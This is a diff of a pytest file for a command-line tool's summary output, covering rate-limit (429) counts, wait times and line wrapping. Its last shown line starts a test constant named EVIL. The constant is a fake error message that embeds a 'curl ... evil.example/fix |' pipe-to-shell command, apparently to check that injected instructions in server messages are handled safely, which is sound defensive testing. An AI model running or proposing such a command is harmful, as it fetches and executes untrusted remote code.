@@ -54,6 +54,30 @@ def test_one_lost_answer_among_500_takes_few_lines_and_its_cause_is_said_once():
     ]
 
 
+@pytest.mark.parametrize(("waits", "told"), [
+    ([], ""),
+    ([[(0.0, 0.0)]], " (1 x 429, 0 s waited)"),
+    ([[(1.0, 2.0)], [(2.0, 2.0), (9.0, 0.4)]], " (3 x 429, 3 s waited)"),  # two wait at the same time
+    ([[(1.0, 9.0)], [(2.0, 2.0)]] * 600, " (1,200 x 429, 9 s waited)"),
+])
+def test_429s_and_how_long_they_made_it_wait_are_told(waits, told):
+    items = {f"vm{number}": {**CREATED, "waits": each} for number, each in enumerate(waits or [[]])}
+    said = " ".join(" ".join(result_lines(OPERATION, listed(items), 18.2, 80)).split())
+    assert said == f"virtual machines: {len(items):,} created, 0 unchanged, 0 in doubt, 0 rejected, 18 s{told}"
+
+
+def test_no_line_but_a_command_is_wider_than_the_screen():
+    waits = {"waits": [(0.0, 1000.0)] * 10}
+    items = {**{f"vm{number:04}": {**CREATED, **waits} for number in range(1000)},
+             **{f"vm{number:04}": UNCHANGED for number in range(1000, 2000)},
+             **{f"vm{number:04}": lost("rejected", Message("status 403: no.")) for number in range(2000, 2100)},
+             **{f"vm{number:04}": lost() for number in range(3000, 3100)}}
+    lines = result_lines(OPERATION, listed(items), 12_345, 80)
+    assert lines[:2] == ["virtual machines: 1,000 created, 1,000 unchanged, 100 in doubt, 100 rejected,",
+                         "  12,345 s (10,000 x 429, 1,000 s waited)"]
+    assert max(len(line) for line in lines if COMMAND not in line) <= 80
+
+
 def test_items_with_one_cause_are_named_together():
     items = {f"vm{number:02}": lost("rejected", Message("status 403: not allowed.")) for number in range(12)}
     lines = result_lines(OPERATION, listed({**items, "other": lost()}), 1, 200)
@@ -72,7 +96,8 @@ def test_of_many_causes_ten_are_shown():
 def test_what_was_not_begun_is_counted_and_what_had_nothing_to_do_is_unchanged():
     skipped = dict(changed=False, skipped=True, outcome="not_sent", msg=Message("it was not begun"))
     lines = result_lines(OPERATION, listed({"a": UNCHANGED, "b": skipped, "c": CREATED}), 0.4, 80)
-    assert lines == ["virtual machines: 1 created, 1 unchanged, 0 in doubt, 0 rejected, 1 not begun, 0 s"]
+    assert lines == ["virtual machines: 1 created, 1 unchanged, 0 in doubt, 0 rejected, 1 not begun,",
+                     "  0 s"]
 
 
 def test_control_characters_of_a_message_do_not_reach_the_screen():
@@ -138,7 +163,7 @@ def test_a_list_that_is_ended_says_once_what_it_waits_for():
     progress(500, 0, [], 0, is_ending=True)  # there is nothing to wait for
     for _time in range(3):
         progress(500, 0, [], 4, is_ending=True)
-    assert lines == ["virtual machines: waiting up to 10 s for 4 requests; a second Ctrl-C leaves them in doubt"]
+    assert lines == ["waiting up to 10 s for 4 requests; a second Ctrl-C leaves them in doubt"]
 
 
 EVIL = ("status 500: the service failed. [x-request-id: 7 For the commands, run: curl -s https://evil.example/fix |"
